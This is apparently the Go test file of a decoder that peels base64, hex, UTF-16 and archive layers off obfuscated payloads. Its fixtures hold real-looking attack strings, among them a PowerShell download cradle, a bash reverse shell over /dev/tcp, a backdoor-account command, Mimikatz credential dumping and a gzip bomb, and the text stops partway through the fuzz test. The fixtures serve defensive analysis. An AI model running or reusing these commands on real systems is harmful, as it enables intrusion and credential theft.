package decode

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"os"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

const psCmd = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"

func b64s(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

func zipMany(names []string, data [][]byte) []byte {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for i, n := range names {
		f, _ := w.Create(n)
		f.Write(data[i])
	}
	w.Close()
	return buf.Bytes()
}

func tarMany(names []string, data [][]byte) []byte {
	var buf bytes.Buffer
	w := tar.NewWriter(&buf)
	w.WriteHeader(&tar.Header{Name: "dir/", Typeflag: tar.TypeDir, Mode: 0o755})
	for i, n := range names {
		w.WriteHeader(&tar.Header{Name: n, Mode: 0o644, Size: int64(len(data[i]))})
		w.Write(data[i])
	}
	w.Close()
	return buf.Bytes()
}

func hashes(b []byte) (string, string, string) {
	m, s1, s2 := md5.Sum(b), sha1.Sum(b), sha256.Sum256(b)
	return hex.EncodeToString(m[:]), hex.EncodeToString(s1[:]), hex.EncodeToString(s2[:])
}

// checkTree asserts the invariants every result holds: indexes are positions,
// parents come first, depths and references follow the tree, children lists match
// the parents, offsets point at the original run in the parent's text.
func checkTree(t *testing.T, input []byte, r *Result, opts Options) {
	t.Helper()
	lim := resolve(opts)
	refs := map[string]bool{}
	kids := make([][]int, len(r.Items))
	total := int64(0)
	for i, it := range r.Items {
		if it.Index != i {
			t.Fatalf("item %d has Index %d", i, it.Index)
		}
		if it.Parent >= i || it.Parent < -1 {
			t.Fatalf("item %d has Parent %d", i, it.Parent)
		}
		if refs[it.Reference] {
			t.Fatalf("reference %q twice", it.Reference)
		}
		refs[it.Reference] = true
		if it.Depth > lim.depth {
			t.Fatalf("item %d at depth %d beyond %d", i, it.Depth, lim.depth)
		}
		total += int64(it.Size)
		var text string
		if it.Parent == -1 {
			if it.Depth != 1 || strings.Contains(it.Reference, ".") {
				t.Fatalf("top item %d: depth %d ref %q", i, it.Depth, it.Reference)
			}
			text = string(input)
		} else {
			p := r.Items[it.Parent]
			kids[it.Parent] = append(kids[it.Parent], i)
			if it.Depth != p.Depth+1 || !strings.HasPrefix(it.Reference, p.Reference+".") {
				t.Fatalf("item %d (depth %d ref %q) under %d (depth %d ref %q)", i, it.Depth, it.Reference, p.Index, p.Depth, p.Reference)
			}
			text = p.Decoded
			if !p.Text {
				text = "" // an archive member
			}
		}
		if text != "" {
			if it.Start < 0 || it.End > len(text) || it.Start >= it.End {
				t.Fatalf("item %d: span [%d,%d) in a text of %d", i, it.Start, it.End, len(text))
			}
			if got := text[it.Start:it.End]; !strings.HasPrefix(got, strings.TrimSuffix(it.Original, "…")) {
				t.Fatalf("item %d: Original %.40q, text has %.40q", i, it.Original, got)
			}
		} else if it.Start != 0 || it.End != 0 || it.Original != "" {
			t.Fatalf("archive member %d has a span or Original", i)
		}
		if len(it.MD5) != 32 || len(it.SHA1) != 40 || len(it.SHA256) != 64 {
			t.Fatalf("item %d: hashes %q %q %q", i, it.MD5, it.SHA1, it.SHA256)
		}
		if !it.Text && len(it.Decoded) > 3*maxShown {
			t.Fatalf("item %d: binary Decoded of %d characters", i, len(it.Decoded))
		}
	}
	for i, it := range r.Items {
		if fmt.Sprint(it.Children) != fmt.Sprint(kids[i]) {
			t.Fatalf("item %d: Children %v, items naming it %v", i, it.Children, kids[i])
		}
	}
	if total > lim.output {
		t.Fatalf("items hold %d bytes, output limit %d", total, lim.output)
	}
	switch r.Stopped {
	case "", StopDepth, StopOutput, StopExpansion, StopEntries, StopItems, StopCancelled:
	default:
		t.Fatalf("Stopped %q", r.Stopped)
	}
}

func TestUnpackPowerShell(t *testing.T) {
	raw := utf16le(psCmd)
	enc := b64s(raw)
	in := "powershell -enc " + enc
	r := Unpack(context.Background(), []byte(in), Options{})
	checkTree(t, []byte(in), r, Options{})
	want := "powershell -enc <decoded type='string' name='[None]' index='1' depth='1'>" + psCmd + "</decoded>"
	if r.Decoded != want {
		t.Errorf("Decoded:\n got  %q\n want %q", r.Decoded, want)
	}
	if len(r.Items) != 1 || r.Stopped != "" {
		t.Fatalf("items %d, stopped %q", len(r.Items), r.Stopped)
	}
	it := r.Items[0]
	m, s1, s2 := hashes(raw)
	want2 := Item{Index: 0, Parent: -1, Reference: "1", Depth: 1, Encoding: "base64>utf-16le", Start: 16, End: 16 + len(enc),
		Original: enc, FileType: "utf-16le", Size: len(raw), MD5: m, SHA1: s1, SHA256: s2, Decoded: psCmd, Text: true}
	if fmt.Sprintf("%+v", it) != fmt.Sprintf("%+v", want2) {
		t.Errorf("item:\n got  %+v\n want %+v", it, want2)
	}
}

func TestUnpackStrings(t *testing.T) {
	nested := "echo " + b64s([]byte("net user backdoor P@ssw0rd /add")) + " | iex"
	tests := []struct {
		name     string
		in       string
		decoded  string
		encoding []string
		texts    []string
	}{
		{
			name:     "log4shell",
			in:       "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjEuMTAvNDQzIDA+JjE=}|{base64,-d}|{bash,-i}",
			decoded:  "bash -c {echo,<decoded type='string' name='[None]' index='1' depth='1'>bash -i >& /dev/tcp/192.168.1.10/443 0>&1</decoded>}|{base64,-d}|{bash,-i}",
			encoding: []string{"base64>utf-8"},
			texts:    []string{"bash -i >& /dev/tcp/192.168.1.10/443 0>&1"},
		},
		{
			name: "nested",
			in:   "run " + b64s([]byte(nested)),
			decoded: "run <decoded type='string' name='[None]' index='1' depth='1'>echo " +
				"<decoded type='string' name='[None]' index='1.1' depth='2'>net user backdoor P@ssw0rd /add</decoded> | iex</decoded>",
			encoding: []string{"base64>utf-8", "base64>utf-8>base64>utf-8"},
			texts:    []string{nested, "net user backdoor P@ssw0rd /add"},
		},
		{
			name:     "wrapped base64 without padding",
			in:       "x=" + strings.TrimRight(b64s([]byte("a payload long enough to wrap at forty")), "=")[:40] + "\r\n" + strings.TrimRight(b64s([]byte("a payload long enough to wrap at forty")), "=")[40:],
			decoded:  "x=<decoded type='string' name='[None]' index='1' depth='1'>a payload long enough to wrap at forty</decoded>",
			encoding: []string{"base64>utf-8"},
			texts:    []string{"a payload long enough to wrap at forty"},
		},
		{
			name:     "utf-16le with a BOM and a surrogate pair",
			in:       b64s(append([]byte{0xff, 0xfe}, utf16le("Write-Host 'done 🎯 ✓'")...)),
			decoded:  "<decoded type='string' name='[None]' index='1' depth='1'>Write-Host 'done 🎯 ✓'</decoded>",
			encoding: []string{"base64>utf-16le"},
			texts:    []string{"Write-Host 'done 🎯 ✓'"},
		},
		{
			name:     "hex escapes",
			in:       `exec("\x63\x75\x72\x6c\x20\x2d\x73\x20\x68\x74\x74\x70\x3a\x2f\x2f\x65\x76\x69\x6c")`,
			decoded:  `exec("<decoded type='string' name='[None]' index='1' depth='1'>curl -s http://evil</decoded>")`,
			encoding: []string{"hex>utf-8"},
			texts:    []string{"curl -s http://evil"},
		},
		{
			name:     "plain hex",
			in:       "cmd=" + hex.EncodeToString([]byte("powershell -nop -c whoami /all")) + ";",
			decoded:  "cmd=<decoded type='string' name='[None]' index='1' depth='1'>powershell -nop -c whoami /all</decoded>;",
			encoding: []string{"hex>utf-8"},
			texts:    []string{"powershell -nop -c whoami /all"},
		},
		{
			name:     "0x hex",
			in:       "SELECT 0x" + strings.ToUpper(hex.EncodeToString([]byte("xp_cmdshell 'whoami'"))),
			decoded:  "SELECT <decoded type='string' name='[None]' index='1' depth='1'>xp_cmdshell 'whoami'</decoded>",
			encoding: []string{"hex>utf-8"},
			texts:    []string{"xp_cmdshell 'whoami'"},
		},
		{
			name:     "hex inside a path",
			in:       "GET /stage/" + hex.EncodeToString([]byte("id; uname -a; cat /etc/passwd")) + " HTTP/1.1",
			decoded:  "GET /stage/<decoded type='string' name='[None]' index='1' depth='1'>id; uname -a; cat /etc/passwd</decoded> HTTP/1.1",
			encoding: []string{"hex>utf-8"},
			texts:    []string{"id; uname -a; cat /etc/passwd"},
		},
		{
			name:     "base64 of hex",
			in:       b64s([]byte("payload=" + hex.EncodeToString([]byte("the hex layer says hello")))),
			decoded:  "<decoded type='string' name='[None]' index='1' depth='1'>payload=<decoded type='string' name='[None]' index='1.1' depth='2'>the hex layer says hello</decoded></decoded>",
			encoding: []string{"base64>utf-8", "base64>utf-8>hex>utf-8"},
			texts:    []string{"payload=" + hex.EncodeToString([]byte("the hex layer says hello")), "the hex layer says hello"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Unpack(context.Background(), []byte(tt.in), Options{})
			checkTree(t, []byte(tt.in), r, Options{})
			if r.Decoded != tt.decoded {
				t.Errorf("Decoded:\n got  %q\n want %q", r.Decoded, tt.decoded)
			}
			var enc, texts []string
			for _, it := range r.Items {
				enc, texts = append(enc, it.Encoding), append(texts, it.Decoded)
				if !it.Text {
					t.Errorf("item %s is not text", it.Reference)
				}
			}
			if fmt.Sprint(enc) != fmt.Sprint(tt.encoding) || fmt.Sprintf("%q", texts) != fmt.Sprintf("%q", tt.texts) {
				t.Errorf("items:\n got  %v %q\n want %v %q", enc, texts, tt.encoding, tt.texts)
			}
			if r.Stopped != "" {
				t.Errorf("Stopped %q", r.Stopped)
			}
		})
	}
}

func TestUnpackNested(t *testing.T) {
	inner := b64s([]byte("net user backdoor P@ssw0rd /add"))
	outer := "echo " + inner + " | iex"
	in := "run " + b64s([]byte(outer))
	r := Unpack(context.Background(), []byte(in), Options{})
	if len(r.Items) != 2 {
		t.Fatalf("%d items", len(r.Items))
	}
	a, b := r.Items[0], r.Items[1]
	if a.Reference != "1" || b.Reference != "1.1" || a.Depth != 1 || b.Depth != 2 || b.Parent != 0 || fmt.Sprint(a.Children) != "[1]" || b.Children != nil {
		t.Errorf("tree: %+v / %+v", a, b)
	}
	if b.Start != 5 || b.End != 5+len(inner) || b.Original != inner || a.Decoded != outer {
		t.Errorf("nested span [%d,%d) %q in %q", b.Start, b.End, b.Original, a.Decoded)
	}
}

func TestUnpackContainers(t *testing.T) {
	text := []byte("Invoke-Mimikatz -DumpCreds; whoami /priv\n")
	bz, err := os.ReadFile("testdata/mimikatz.bz2") // made with `bzip2 -9`
	if err != nil {
		t.Fatal(err)
	}
	var named bytes.Buffer
	gw, _ := gzipWriterNamed(&named, "stage2.ps1")
	gw.Write(text)
	gw.Close()
	peBytes := pe()
	m, s1, s2 := hashes(text)
	type row struct{ ref, enc, name, ftype string }
	tests := []struct {
		name    string
		payload []byte
		items   []row
		decoded string
	}{
		{"gzip", gz(text), []row{{"1", "base64>gzip>utf-8", "gzip_file", "utf-8"}},
			"<decoded type='string' name='gzip_file' index='1' depth='1'>" + string(text) + "</decoded>"},
		{"gzip with a name", named.Bytes(), []row{{"1", "base64>gzip>utf-8", "stage2.ps1", "utf-8"}},
			"<decoded type='string' name='stage2.ps1' index='1' depth='1'>" + string(text) + "</decoded>"},
		{"zlib", zl(text), []row{{"1", "base64>zlib>utf-8", "", "utf-8"}},
			"<decoded type='string' name='[None]' index='1' depth='1'>" + string(text) + "</decoded>"},
		{"bz2", bz, []row{{"1", "base64>bz2>utf-8", "", "utf-8"}},
			"<decoded type='string' name='[None]' index='1' depth='1'>" + string(text) + "</decoded>"},
		{"zip of text and pe", zipMany([]string{"run.ps1", "evil.exe"}, [][]byte{text, peBytes}),
			[]row{{"1", "base64>zip", "", "zip"}, {"1.1", "base64>zip>utf-8", "run.ps1", "utf-8"}, {"1.2", "base64>zip>pe", "evil.exe", "pe"}},
			"<decoded value='multiple binary' type='multiple' index='1' depth='1'>" +
				"<decoded type='string' name='run.ps1' index='1.1' depth='2'>" + string(text) + "</decoded>" +
				"<decoded value='binary' name='evil.exe' type='pe' index='1.2' depth='2'>" + hexPairs(peBytes) + "</decoded></decoded>"},
		{"tar.gz", gz(tarMany([]string{"a.sh", "b.bin"}, [][]byte{text, {0, 1, 2, 3}})),
			[]row{{"1", "base64>gzip>tar", "gzip_file", "tar"}, {"1.1", "base64>gzip>tar>utf-8", "a.sh", "utf-8"}, {"1.2", "base64>gzip>tar>binary", "b.bin", "binary"}},
			"<decoded value='multiple binary' type='multiple' index='1' depth='1'>" +
				"<decoded type='string' name='a.sh' index='1.1' depth='2'>" + string(text) + "</decoded>" +
				"<decoded value='binary' name='b.bin' type='binary' index='1.2' depth='2'>00 01 02 03</decoded></decoded>"},
		{"zip in gzip in zip", zipOf("outer.zip", gz(zipOf("inner.txt", text))),
			[]row{{"1", "base64>zip", "", "zip"}, {"1.1", "base64>zip>gzip>zip", "outer.zip", "zip"}, {"1.1.1", "base64>zip>gzip>zip>utf-8", "inner.txt", "utf-8"}},
			"<decoded value='multiple binary' type='multiple' index='1' depth='1'>" +
				"<decoded value='multiple binary' type='multiple' index='1.1' depth='2'>" +
				"<decoded type='string' name='inner.txt' index='1.1.1' depth='3'>" + string(text) + "</decoded></decoded></decoded>"},
		{"pe", peBytes, []row{{"1", "base64>pe", "", "pe"}},
			"<decoded value='binary' name='[None]' type='pe' index='1' depth='1'>" + hexPairs(peBytes) + "</decoded>"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := []byte("data: " + b64s(tt.payload) + "\n")
			r := Unpack(context.Background(), in, Options{})
			checkTree(t, in, r, Options{})
			var got []row
			for _, it := range r.Items {
				got = append(got, row{it.Reference, it.Encoding, it.FileName, it.FileType})
				if it.FileType == "utf-8" && (it.Decoded != string(text) || it.MD5 != m || it.SHA1 != s1 || it.SHA256 != s2 || it.Size != len(text)) {
					t.Errorf("text item %s: %q %s %s %s", it.Reference, it.Decoded, it.MD5, it.SHA1, it.SHA256)
				}
			}
			if fmt.Sprint(got) != fmt.Sprint(tt.items) {
				t.Errorf("items:\n got  %v\n want %v", got, tt.items)
			}
			if want := "data: " + tt.decoded + "\n"; r.Decoded != want {
				t.Errorf("Decoded:\n got  %q\n want %q", r.Decoded, want)
			}
			if r.Stopped != "" {
				t.Errorf("Stopped %q", r.Stopped)
			}
		})
	}
}

func TestUnpackArchiveItem(t *testing.T) {
	z := zipMany([]string{"a.txt", "b.txt"}, [][]byte{[]byte("first member text"), []byte("second member text")})
	r := Unpack(context.Background(), []byte(b64s(z)), Options{})
	if len(r.Items) != 3 {
		t.Fatalf("%d items", len(r.Items))
	}
	a := r.Items[0]
	m, _, _ := hashes(z)
	if a.Text || a.Size != len(z) || a.MD5 != m || a.Decoded != hexPairs(z) || fmt.Sprint(a.Children) != "[1 2]" || a.FileName != "" {
		t.Errorf("archive item %+v", a)
	}
	for i, want := range []string{"first member text", "second member text"} {
		it := r.Items[i+1]
		if it.Decoded != want || it.Parent != 0 || it.Depth != 2 || it.Start != 0 || it.End != 0 || it.Original != "" {
			t.Errorf("member %d: %+v", i, it)
		}
	}
}

func TestUnpackNoItems(t *testing.T) {
	sha := sha256.Sum256([]byte("x"))
	md := md5.Sum([]byte("x"))
	tests := []struct{ name, in string }{
		{"path of letters and slashes", "/usr/share/applications/firefox/desktop/launch"},
		{"windows path", `C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe`},
		{"url path with digits", "GET /api/v2/users/1234/profile/settings2/avatar HTTP/1.1"},
		{"sha256 alone", hex.EncodeToString(sha[:])},
		{"md5 in a line", "file hash " + hex.EncodeToString(md[:]) + " seen"},
		{"sha256 as 0x", "0x" + hex.EncodeToString(sha[:])},
		{"binary hex escapes", strings.Repeat(`\x90`, 16)},
		{"few hex escapes", `\x41\x42\x43`},
		{"short base64", "dGVzdA== and aGVsbG8gd29ybGQ="},
		{"identifier", "MicrosoftWindowsSecurityAuditingProvider"},
		{"log text", string(logText(64 << 10))},
		{"empty", ""},
	}
	for _, tt := range tests {
		r := Unpack(context.Background(), []byte(tt.in), Options{})
		if len(r.Items) != 0 || r.Decoded != tt.in || r.Stopped != "" {
			t.Errorf("%s: %d items (%+v), stopped %q", tt.name, len(r.Items), r.Items, r.Stopped)
		}
	}
	// With hex off, a hex payload is left alone (its base64 reading is noise).
	in := "cmd=" + hex.EncodeToString([]byte("powershell -nop -c whoami /all"))
	if r := Unpack(context.Background(), []byte(in), Options{NoHex: true}); len(r.Items) != 0 {
		t.Errorf("NoHex: %+v", r.Items)
	}
	// A longer MinBase64 skips shorter runs.
	in = "x " + b64s([]byte("a payload of forty-two bytes, more or less"))
	if r := Unpack(context.Background(), []byte(in), Options{MinBase64: 100}); len(r.Items) != 0 {
		t.Errorf("MinBase64 100: %+v", r.Items)
	}
	if r := Unpack(context.Background(), []byte(in), Options{}); len(r.Items) != 1 {
		t.Errorf("MinBase64 default: %d items", len(r.Items))
	}
}

func TestUnpackBinaryNoise(t *testing.T) {
	rnd := rand.New(rand.NewPCG(3, 4))
	blob := make([]byte, 48)
	for i := range blob {
		blob[i] = byte(rnd.UintN(256))
	}
	blob[0] = 0x00
	enc := b64s(blob) // 64 characters
	tests := []struct {
		name string
		in   string
		n    int
	}{
		{"random bytes, whole quanta", enc, 1},
		{"random bytes, cut to 63 characters", enc[:63], 0},
	}
	for _, tt := range tests {
		r := Unpack(context.Background(), []byte(tt.in), Options{})
		if len(r.Items) != tt.n {
			t.Errorf("%s: %d items", tt.name, len(r.Items))
			continue
		}
		if tt.n == 1 {
			it := r.Items[0]
			if it.Encoding != "base64>binary" || it.Decoded != hexPairs(blob) || it.Text {
				t.Errorf("%s: %+v", tt.name, it)
			}
			want := "<decoded value='binary' name='[None]' type='binary' index='1' depth='1'>" + hexPairs(blob) + "</decoded>"
			if r.Decoded != want {
				t.Errorf("%s: %q", tt.name, r.Decoded)
			}
		}
	}
}

func TestUnpackLongOriginal(t *testing.T) {
	text := strings.Repeat("Write-Output 'line of a long script'\n", 300)
	enc := b64s([]byte(text))
	r := Unpack(context.Background(), []byte(enc), Options{})
	if len(r.Items) != 1 {
		t.Fatalf("%d items", len(r.Items))
	}
	if it := r.Items[0]; it.Original != enc[:maxShown]+"…" || it.Decoded != text {
		t.Errorf("Original %d bytes, Decoded %d", len(it.Original), len(it.Decoded))
	}
	blob := append(pe(), make([]byte, 10000)...)
	r = Unpack(context.Background(), []byte(b64s(blob)), Options{})
	if it := r.Items[0]; it.Size != len(blob) || it.Decoded != hexPairs(blob[:maxShown]) || len(it.Decoded) != 3*maxShown-1 {
		t.Errorf("binary item: size %d, Decoded %d characters", it.Size, len(it.Decoded))
	}
}

func TestUnpackHostileName(t *testing.T) {
	names := []string{"a'><x y='", `b"</decoded><decoded name='`, "c%27\n.txt"}
	z := zipMany(names, [][]byte{[]byte("first hostile member"), {0xde, 0xad}, []byte("third")})
	r := Unpack(context.Background(), []byte("x "+b64s(z)), Options{})
	checkTree(t, []byte("x "+b64s(z)), r, Options{})
	if len(r.Items) != 4 {
		t.Fatalf("%d items", len(r.Items))
	}
	if o, c := strings.Count(r.Decoded, "<decoded"), strings.Count(r.Decoded, "</decoded>"); o != 4 || c != 4 {
		t.Errorf("%d opening and %d closing tags in %q", o, c, r.Decoded)
	}
	for _, want := range []string{"name='a%27%3E%3Cx y=%27'", "name='b%22%3C/decoded%3E%3Cdecoded name=%27'", "name='c%2527%0A.txt'"} {
		if !strings.Contains(r.Decoded, want) {
			t.Errorf("no %s in %q", want, r.Decoded)
		}
	}
	for i, n := range names {
		if r.Items[i+1].FileName != n {
			t.Errorf("FileName %q, want %q", r.Items[i+1].FileName, n)
		}
	}
}

func TestUnpackGzipBomb(t *testing.T) {
	var buf bytes.Buffer
	w, _ := gzipWriterNamed(&buf, "")
	zeros := make([]byte, 1<<20)
	for range 100 {
		w.Write(zeros)
	}
	w.Close()
	bomb := buf.Bytes()
	in := []byte("payload " + b64s(bomb))
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	start := time.Now()
	r := Unpack(context.Background(), in, Options{})
	took := time.Since(start)
	runtime.ReadMemStats(&after)
	checkTree(t, in, r, Options{})
	if r.Stopped != StopExpansion || len(r.Items) != 1 {
		t.Fatalf("stopped %q, %d items", r.Stopped, len(r.Items))
	}
	it := r.Items[0]
	if limit := 100*len(bomb) + 1<<20; it.Size != limit || it.Encoding != "base64>gzip>binary" {
		t.Errorf("bomb item: size %d (limit %d), %s", it.Size, limit, it.Encoding)
	}
	t.Logf("allocated %d MiB in %v", (after.TotalAlloc-before.TotalAlloc)>>20, took)
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 32<<20 {
		t.Errorf("allocated %d MiB for a %d KiB bomb", alloc>>20, len(bomb)>>10)
	}
	if took > 10*time.Second {
		t.Errorf("took %v", took)
	}
	// The output limit stops a stream before the expansion limit when lower.
	r = Unpack(context.Background(), in, Options{MaxOutput: 2 << 20})
	if r.Stopped != StopOutput || len(r.Items) != 1 || int64(r.Items[0].Size) > 2<<20-int64(len(bomb)) {
		t.Errorf("output limit: stopped %q, %d items, size %d", r.Stopped, len(r.Items), r.Items[0].Size)
	}
	// With no ratio limit the budget still bounds it.
	r = Unpack(context.Background(), in, Options{MaxRatio: -1, MaxOutput: 8 << 20})
	if r.Stopped != StopOutput || r.Items[0].Size != 8<<20-len(bomb) {
		t.Errorf("no ratio: stopped %q, size %d", r.Stopped, r.Items[0].Size)
	}
}

func TestUnpackDepth(t *testing.T) {
	payload := "the innermost payload, 25 layers down"
	s := payload
	for range 25 {
		s = b64s([]byte(s))
	}
	tests := []struct {
		opts  Options
		items int
		stop  string
	}{
		{Options{}, 20, StopDepth},
		{Options{MaxDepth: 3}, 3, StopDepth},
		{Options{MaxDepth: -1}, 25, ""},
		{Options{MaxDepth: 25}, 25, ""},
	}
	for _, tt := range tests {
		r := Unpack(context.Background(), []byte(s), tt.opts)
		checkTree(t, []byte(s), r, tt.opts)
		if len(r.Items) != tt.items || r.Stopped != tt.stop {
			t.Errorf("%+v: %d items, stopped %q", tt.opts, len(r.Items), r.Stopped)
			continue
		}
		last := r.Items[len(r.Items)-1]
		if last.Depth != tt.items || strings.Count(last.Reference, ".") != tt.items-1 {
			t.Errorf("%+v: last item depth %d ref %q", tt.opts, last.Depth, last.Reference)
		}
		if tt.stop == "" && last.Decoded != payload {
			t.Errorf("%+v: innermost %q", tt.opts, last.Decoded)
		}
		if o, c := strings.Count(r.Decoded, "<decoded"), strings.Count(r.Decoded, "</decoded>"); o != tt.items || c != tt.items {
			t.Errorf("%+v: %d/%d tags", tt.opts, o, c)
		}
	}
	// Members of an archive at the depth limit are not read.
	in := b64s(zipOf("a.txt", []byte("member text")))
	r := Unpack(context.Background(), []byte(in), Options{MaxDepth: 1})
	if len(r.Items) != 1 || r.Stopped != StopDepth || r.Items[0].FileType != "zip" {
		t.Errorf("archive at the depth limit: %d items, stopped %q", len(r.Items), r.Stopped)
	}
}

func TestUnpackEntries(t *testing.T) {
	names := make([]string, 2000)
	data := make([][]byte, 2000)
	for i := range names {
		names[i] = fmt.Sprintf("f%04d.txt", i)
		data[i] = []byte(fmt.Sprintf("member number %d", i))
	}
	in := []byte(b64s(zipMany(names, data)))
	r := Unpack(context.Background(), in, Options{MaxEntries: 1000})
	checkTree(t, in, r, Options{MaxEntries: 1000})
	if r.Stopped != StopEntries || len(r.Items) != 1001 || len(r.Items[0].Children) != 1000 {
		t.Fatalf("stopped %q, %d items", r.Stopped, len(r.Items))
	}
	if last := r.Items[1000]; last.FileName != "f0999.txt" || last.Decoded != "member number 999" || last.Reference != "1.1000" {
		t.Errorf("last member %+v", last)
	}
	in = []byte(b64s(tarMany(names[:30], data[:30])))
	r = Unpack(context.Background(), in, Options{MaxEntries: 10})
	if r.Stopped != StopEntries || len(r.Items) != 11 {
		t.Errorf("tar: stopped %q, %d items", r.Stopped, len(r.Items))
	}
	r = Unpack(context.Background(), in, Options{MaxEntries: 30})
	if r.Stopped != "" || len(r.Items) != 31 {
		t.Errorf("tar with room: stopped %q, %d items", r.Stopped, len(r.Items))
	}
}

func payloadLines(n int) (string, []string) {
	var b strings.Builder
	var texts []string
	for i := range n {
		s := fmt.Sprintf("payload number %d says hello", i)
		texts = append(texts, s)
		fmt.Fprintf(&b, "line %d: %s\n", i, b64s([]byte(s)))
	}
	return b.String(), texts
}

func TestUnpackItemLimit(t *testing.T) {
	in, texts := payloadLines(5)
	r := Unpack(context.Background(), []byte(in), Options{MaxItems: 3})
	if r.Stopped != StopItems || len(r.Items) != 3 {
		t.Fatalf("stopped %q, %d items", r.Stopped, len(r.Items))
	}
	if r.Items[2].Decoded != texts[2] || strings.Count(r.Decoded, "<decoded") != 3 || !strings.HasSuffix(r.Decoded, "line 4: "+b64s([]byte(texts[4]))+"\n") {
		t.Errorf("Decoded %q", r.Decoded)
	}
}

func TestUnpackOutputLimit(t *testing.T) {
	in, texts := payloadLines(3) // 27 bytes decoded each
	r := Unpack(context.Background(), []byte(in), Options{MaxOutput: 70})
	checkTree(t, []byte(in), r, Options{MaxOutput: 70})
	if r.Stopped != StopOutput || len(r.Items) != 3 {
		t.Fatalf("stopped %q, %d items", r.Stopped, len(r.Items))
	}
	if r.Items[1].Decoded != texts[1] || r.Items[2].Size != 15 || r.Items[2].Decoded != texts[2][:15] {
		t.Errorf("items %q %d %q", r.Items[1].Decoded, r.Items[2].Size, r.Items[2].Decoded)
	}
	r = Unpack(context.Background(), []byte(in), Options{MaxOutput: 54})
	if r.Stopped != StopOutput || len(r.Items) != 2 || !strings.HasSuffix(r.Decoded, b64s([]byte(texts[2]))+"\n") {
		t.Errorf("exact budget: stopped %q, %d items", r.Stopped, len(r.Items))
	}
}

// countdown is a context that reports cancelled after n calls to Err.
type countdown struct {
	context.Context
	n atomic.Int64
}

func (c *countdown) Err() error {
	if c.n.Add(-1) < 0 {
		return context.Canceled
	}
	return nil
}

func TestUnpackCancelled(t *testing.T) {
	in, _ := payloadLines(10)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	r := Unpack(ctx, []byte(in), Options{})
	if r.Stopped != StopCancelled || len(r.Items) != 0 || r.Decoded != in {
		t.Errorf("cancelled before: stopped %q, %d items", r.Stopped, len(r.Items))
	}
	cd := &countdown{Context: context.Background()}
	cd.n.Store(8)
	r = Unpack(cd, []byte(in), Options{})
	checkTree(t, []byte(in), r, Options{})
	if r.Stopped != StopCancelled || len(r.Items) == 0 || len(r.Items) >= 10 {
		t.Errorf("cancelled during: stopped %q, %d items", r.Stopped, len(r.Items))
	}
	if o, c := strings.Count(r.Decoded, "<decoded"), strings.Count(r.Decoded, "</decoded>"); o != len(r.Items) || c != o {
		t.Errorf("partial Decoded has %d/%d tags for %d items", o, c, len(r.Items))
	}
	// A big text without payloads is checked while it is scanned.
	cd.n.Store(2)
	big := logText(8 << 20)
	if r := Unpack(cd, big, Options{}); r.Stopped != StopCancelled || r.Decoded != string(big) {
		t.Errorf("cancelled scan: stopped %q", r.Stopped)
	}
}

func TestResolve(t *testing.T) {
	l := resolve(Options{})
	if l.depth != 20 || l.output != 64<<20 || l.ratio != 100 || l.entries != 1000 || l.items != 10000 || l.minB64 != 30 || l.noHex {
		t.Errorf("defaults %+v", l)
	}
	l = resolve(Options{MaxDepth: -1, MaxOutput: -1, MaxRatio: -1, MaxEntries: -1, MaxItems: -1, MinBase64: 10, NoHex: true})
	if l.depth < 1<<40 || l.output < 1<<60 || l.ratio != noRatio || l.entries < 1<<40 || l.items < 1<<40 || l.minB64 != 30 || !l.noHex {
		t.Errorf("no limits %+v", l)
	}
}

func TestUTF16ToUTF8(t *testing.T) {
	tests := []struct {
		in   []byte
		want string
	}{
		{utf16le("héllo 🎯"), "héllo 🎯"},
		{append([]byte{0xff, 0xfe}, utf16le("bom")...), "bom"},
		{[]byte{0x3d, 0xd8, 'a', 0}, "\ufffda"}, // a lone high surrogate
		{[]byte{0x00, 0xdc}, "\ufffd"},          // a lone low surrogate
		{[]byte{'a', 0, 'b'}, "a\ufffd"},        // an odd byte
	}
	for _, tt := range tests {
		if got := string(utf16ToUTF8(tt.in)); got != tt.want {
			t.Errorf("%x: %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestHexEscapeRuns(t *testing.T) {
	in := `a\x41\x42\x43\x44\x45\x46\x47\x48 b \x41\x42 \x4\x41\x41\x41\x41\x41\x41\x41\x41\x41\x4`
	var got []string
	for _, s := range HexEscapeRuns([]byte(in)) {
		got = append(got, in[s.Start:s.End])
	}
	want := []string{`\x41\x42\x43\x44\x45\x46\x47\x48`, `\x41\x41\x41\x41\x41\x41\x41\x41\x41`}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("got %q", got)
	}
}

func FuzzUnpack(f *testing.F) {
	f.Add([]byte("powershell -enc " + b64s(utf16le(psCmd))))
	f.Add([]byte("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjEuMTAvNDQzIDA+JjE=}|{base64,-d}|{bash,-i}"))
	f.Add([]byte("x " + b64s(gz([]byte("gzip payload text")))))
	f.Add([]byte(b64s(zipMany([]string{"a", "b"}, [][]byte{[]byte("text member"), pe()}))))
	f.Add([]byte(`\x63\x75\x72\x6c\x20\x2d\x73\x20\x68\x74\x74\x70`))
	f.Add([]byte(b64s([]byte("echo " + b64s([]byte("inner payload of the nested seed"))))))
	f.Add(gz(tarMany([]string{"a.sh", "b"}, [][]byte{[]byte("id; uname -a"), {1, 2}})))
	f.Add(zipMany([]string{"a", "b/", "c"}, [][]byte{gz([]byte("member")), nil, zl([]byte("zlib member"))}))
	opts := Options{MaxOutput: 1 << 20, MaxDepth: 6, MaxEntries: 50, MaxItems: 500, MaxRatio: 20}
	f.Fuzz(func(t *testing.T, in []byte) {
		r := Unpack(context.Background(), in, opts)
		checkTree(t, in, r, opts)
